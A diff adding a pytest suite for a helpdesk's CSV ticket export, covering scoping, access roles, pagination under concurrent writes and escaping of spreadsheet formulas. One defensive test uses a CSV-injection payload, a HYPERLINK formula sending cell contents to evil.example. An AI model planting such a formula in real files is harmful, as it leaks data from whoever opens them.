@@ -1,0 +1,181 @@
+"""All tickets in a file: each once, whatever is written meanwhile, and nothing in it that is not for the reader."""
+
+import asyncio
+import csv
+import io
+from collections.abc import Sequence
+from typing import Any
+from uuid import UUID
+
+import pytest
+
+from common import clock
+from common.http.identity import Principal
+from tests.support.desk import Desk, problem
+from tests.support.people import Person, another_organisation, make_agent, make_person
+from tickets.export import queries
+
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+Rows = list[dict[str, str]]
+
+
+def read(pieces: Sequence[bytes]) -> Rows:
+    """As another program reads it."""
+    return list(csv.DictReader(io.StringIO(b"".join(pieces).decode(), newline="")))
+
+
+async def export(desk: Desk, by: Person, **query: Any) -> Rows:
+    """What somebody finds in the file."""
+    answer = await desk.ask(by, "GET", "/export.csv", params=query)
+    assert answer.status_code == 200, answer.text
+    return read([answer.content])
+
+
+def staff(person: Person) -> Principal:
+    """As the service knows them."""
+    return Principal(person.id, person.organisation_id, person.role, person.id, person.name, clock.now())
+
+
+async def test_the_file_holds_each_ticket_of_the_organisation_newest_first(desk: Desk) -> None:
+    first = await desk.ticket(title="Printer", category="hardware", tags=["fire", "paper"])
+    second = await desk.moved(desk.agent, await desk.ticket(priority="high"), "resolved")
+    stranger = await make_agent(desk.auth, "Sam Stranger", await another_organisation())
+
+    newest, oldest = await export(desk, desk.agent)
+
+    assert [newest["id"], oldest["id"]] == [second["id"], first["id"]]
+    assert (
+        oldest
+        | {
+            "number": "1",
+            "title": "Printer",
+            "description": "It burns.",
+            "status": "new",
+            "category": "hardware",
+            "tags": "fire, paper",
+            "requester": desk.customer.name,
+            "requester_id": str(desk.customer.id),
+            "assignee": "",
+            "assignee_id": "",
+            "created_at": first["created_at"],
+            "resolved_at": "",
+        }
+        == oldest
+    )
+    assert (newest["priority"], newest["resolved_at"]) == ("high", second["resolved_at"])
+    assert await export(desk, stranger) == []
+
+
+async def test_it_is_a_file_to_be_saved(desk: Desk) -> None:
+    answer = await desk.ask(desk.agent, "GET", "/export.csv")
+
+    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert answer.headers["Content-Disposition"] == f'attachment; filename="tickets-{clock.now().date()}.csv"'
+    assert answer.text.startswith("number,id,title,")
+
+
+async def test_what_a_customer_types_is_no_formula_for_whoever_opens_it(desk: Desk) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    await desk.ticket(title=formula, description="@SUM(1)", category="+1", tags=["-1"])
+
+    (row,) = await export(desk, desk.agent)
+
+    assert (row["title"], row["description"]) == (f"'{formula}", "'@SUM(1)")
+    assert (row["category"], row["tags"]) == ("'+1", "'-1")
+
+
+async def test_text_of_many_lines_and_signs_comes_out_as_it_was_typed(desk: Desk) -> None:
+    typed = 'He said: "Öffnen, bitte!"\n\n; 中文 \N{PRINTER}'
+    await desk.ticket(description=typed)
+
+    (row,) = await export(desk, desk.agent)
+
+    assert row["description"] == typed
+
+
+async def test_nothing_of_an_internal_note_is_in_it(desk: Desk) -> None:
+    ticket = await desk.ticket()
+    before = await export(desk, desk.agent)
+
+    await desk.wrote(desk.agent, ticket, "Unspeakable.", visibility="internal")
+
+    answer = await desk.ask(desk.agent, "GET", "/export.csv")
+    assert "nspeakable" not in answer.text
+    assert read([answer.content]) == before
+
+
+async def test_it_can_be_narrowed_like_the_list(desk: Desk) -> None:
+    await desk.ticket()
+    closed = await desk.moved(desk.agent, await desk.ticket(), "closed")
+
+    assert [row["id"] for row in await export(desk, desk.agent, status="closed")] == [closed["id"]]
+    assert await export(desk, desk.agent, status="pending") == []
+    problem(await desk.ask(desk.agent, "GET", "/export.csv", params={"status": "lost"}), 422, "invalid")
+
+
+async def test_a_deleted_ticket_is_not_in_it(desk: Desk) -> None:
+    ticket = await desk.ticket()
+    await desk.tickets.db["tickets"].update_one({"_id": UUID(ticket["id"])}, {"$set": {"deleted_at": clock.now()}})
+
+    assert await export(desk, desk.agent) == []
+
+
+async def test_it_is_for_agents_and_admins(desk: Desk) -> None:
+    admin = await make_person(desk.auth, "admin", "Ada Admin", desk.organisation)
+
+    assert await export(desk, admin) == []
+    problem(await desk.ask(desk.customer, "GET", "/export.csv"), 403, "forbidden")
+    problem(await desk.tickets.http.get("/api/v1/tickets/export.csv"), 401, "unauthenticated")
+
+
+async def test_tickets_that_are_written_meanwhile_are_neither_repeated_nor_left_out(
+    desk: Desk, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(queries, "PAGE", 3)
+    tickets = [await desk.ticket() for _ in range(10)]
+    pieces: list[bytes] = []
+
+    async for piece in queries.as_csv(desk.tickets.db, staff(desk.agent), None):
+        pieces.append(piece)
+        await desk.ticket()
+        moved = tickets[len(pieces) % len(tickets)]
+        await desk.moved(desk.agent, moved, "open" if len(pieces) % 2 else "pending")
+
+    found = [row["id"] for row in read(pieces)]
+    assert found == [ticket["id"] for ticket in reversed(tickets)]
+    assert len(pieces) == 4
+
+
+async def test_tickets_that_never_rest_are_each_in_the_file_once(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(queries, "PAGE", 4)
+    tickets = [await desk.ticket() for _ in range(14)]
+    done = asyncio.Event()
+
+    async def keep_moving() -> None:
+        while not done.is_set():
+            for status in ("open", "pending"):
+                await asyncio.gather(*(desk.move(desk.agent, each, status) for each in tickets))
+
+    mover = asyncio.create_task(keep_moving())
+    try:
+        for _ in range(10):
+            pieces = [piece async for piece in queries.as_csv(desk.tickets.db, staff(desk.agent), None)]
+            assert [row["id"] for row in read(pieces)] == [ticket["id"] for ticket in reversed(tickets)]
+    finally:
+        done.set()
+        await mover
+
+
+@pytest.mark.parametrize(("count", "lines"), [(0, [1]), (3, [4]), (4, [5]), (5, [5, 1]), (8, [5, 4])])
+async def test_no_more_than_a_page_is_in_memory(
+    desk: Desk, monkeypatch: pytest.MonkeyPatch, count: int, lines: list[int]
+) -> None:
+    monkeypatch.setattr(queries, "PAGE", 4)
+    for _ in range(count):
+        await desk.ticket()
+
+    pieces = [piece async for piece in queries.as_csv(desk.tickets.db, staff(desk.agent), None)]
+
+    assert [piece.count(b"\r\n") for piece in pieces] == lines
+    assert len(read(pieces)) == count
